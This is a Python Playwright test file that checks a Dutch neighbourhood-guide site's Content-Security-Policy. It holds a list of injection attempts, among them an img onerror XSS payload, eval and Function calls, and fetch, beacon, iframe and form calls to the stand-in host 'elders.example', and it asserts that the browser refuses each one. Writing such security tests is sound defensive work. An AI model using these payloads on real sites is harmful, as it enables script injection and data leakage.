"""A browser that holds the site to its policy finds nothing to refuse, and refuses the rest."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

from actie_engine.model import Instrument
from tests.browser.checklist import Checklist
from tests.browser.kinds import kinds
from tests.browser.proxy import RecordingProxy
from tests.browser.search.dialog import SearchDialog
from tests.browser.server import SiteServer
from tests.browser.watch import REFUSED, Watch
from wijkengids.trust.policy import header, permissions

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def host(site: Path) -> Iterator[SiteServer]:
    """A host that sends the headers of hosting/, so that the worker is held to the policy too."""
    server = SiteServer(
        site,
        {
            "Content-Security-Policy": header(site),
            "Permissions-Policy": permissions(),
            "X-Content-Type-Options": "nosniff",
            "Referrer-Policy": "no-referrer",
            "Cross-Origin-Opener-Policy": "same-origin",
            "Cross-Origin-Resource-Policy": "same-origin",
        },
    )
    yield server
    server.stop()


@pytest.fixture
def proxy(host: SiteServer) -> Iterator[RecordingProxy]:
    proxy = RecordingProxy(host.origin)
    yield proxy
    proxy.stop()


@pytest.fixture
def context(browser: Browser, proxy: RecordingProxy) -> Iterator[BrowserContext]:
    """A browser that asks everything through the proxy, which knows what really went out."""
    context = browser.new_context(
        locale="nl-NL",
        viewport={"width": 1280, "height": 900},
        proxy={"server": f"http://127.0.0.1:{proxy.port}", "bypass": "<-loopback>"},
    )
    yield context
    context.close()


@pytest.fixture
def watch(context: BrowserContext) -> Watch:
    return Watch(context)


def test_no_kind_of_page_is_refused_anything(
    site: Path, host: SiteServer, watch: Watch, page: Page
) -> None:
    for address in kinds(site):
        page.goto(host.url + address)
        expect(page.locator("h1").first).to_be_visible()
        if page.locator("main abbr[title]:visible").count():
            page.locator("main abbr[title]:visible").first.hover()
        assert watch.complaints == [], address


def test_search_and_colours_work_under_it(host: SiteServer, watch: Watch, page: Page) -> None:
    search = SearchDialog(page, host.url)
    search.open()
    search.seek("voucher")
    assert search.found()
    page.keyboard.press("Escape")
    scheme = page.locator("body").get_attribute("data-md-color-scheme")
    page.get_by_role("button", name="Zet donkere kleuren aan").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme or "")
    assert watch.complaints == []


def test_from_the_checklist_to_an_advice_under_it(
    host: SiteServer, watch: Watch, page: Page, instrument: Instrument
) -> None:
    checklist = Checklist(page, host.url).open()
    for vraag in instrument.vragen[:4]:
        checklist.answer(vraag)
    checklist.go("advies")
    checklist.expect_advice()
    assert page.locator("[data-advies-tekst] svg").count() > 0
    assert watch.complaints == []


# http, not https: of https a proxy hears that a browser prepares for a page that it then refuses.
PATIENCE = 50  # tenths of a second in which a busy browser tells what it refused
TRIES = {
    "a script in the page": "const s = document.createElement('script'); s.text = 'hacked = 1';"
    "document.body.append(s)",
    "a script from elsewhere": "const s = document.createElement('script');"
    "s.src = 'http://elders.example/x.js'; document.body.append(s)",
    "HTML with a script": "document.body.insertAdjacentHTML('beforeend',"
    "'<img src=x onerror=\"hacked = 1\">')",
    "an attribute with a script": "document.body.setAttribute('onclick', 'hacked = 1');"
    "document.body.click()",
    "text that is run": "eval('hacked = 1')",
    "text as a function": "new Function('hacked = 1')()",
    "text after a while": "setTimeout('hacked = 1')",
    "a worker from elsewhere": "new Worker('data:text/javascript,1')",
    "a request to elsewhere": "fetch('http://elders.example/').catch(() => {})",
    "a beacon to elsewhere": "navigator.sendBeacon('http://elders.example/', 'x')",
    "a picture from elsewhere": "new Image().src = 'http://elders.example/x.png'",
    "a page in the page": "const f = document.createElement('iframe');"
    "f.src = 'http://elders.example/'; document.body.append(f)",
    "a style in the page": "const s = document.createElement('style');"
    "s.textContent = 'body { color: red }'; document.body.append(s)",
    "another way for HTML": "trustedTypes.createPolicy('eigen', {})",
    "a form to elsewhere": "const f = document.createElement('form');"
    "f.action = 'http://elders.example/'; document.body.append(f); f.submit()",
}


def was_refused(watch: Watch) -> bool:
    return any(REFUSED in each or "Refused" in each for each in watch.complaints)


@pytest.mark.parametrize("attempt", TRIES.values(), ids=TRIES)
def test_what_someone_put_into_a_page_is_refused(
    host: SiteServer, proxy: RecordingProxy, watch: Watch, page: Page, attempt: str
) -> None:
    """The attempt itself runs as a script of the page would: the policy is all that stops it."""
    page.goto(host.url + "over/")
    in_page = "if (top === window)"  # not in the empty frame that a refused page leaves
    page.add_init_script(f"{in_page} addEventListener('DOMContentLoaded', () => {{ {attempt} }})")
    page.reload(wait_until="commit")
    page.wait_for_timeout(300)
    for _ in range(PATIENCE):
        if was_refused(watch):
            break
        page.wait_for_timeout(100)
    assert page.evaluate("globalThis.hacked") is None
    assert was_refused(watch)
    assert proxy.asked_elsewhere() == []


def test_html_past_the_one_way_is_refused(host: SiteServer, page: Page) -> None:
    page.goto(host.url)
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate("document.querySelector('h1').innerHTML = '<b>dik</b> & dun'")
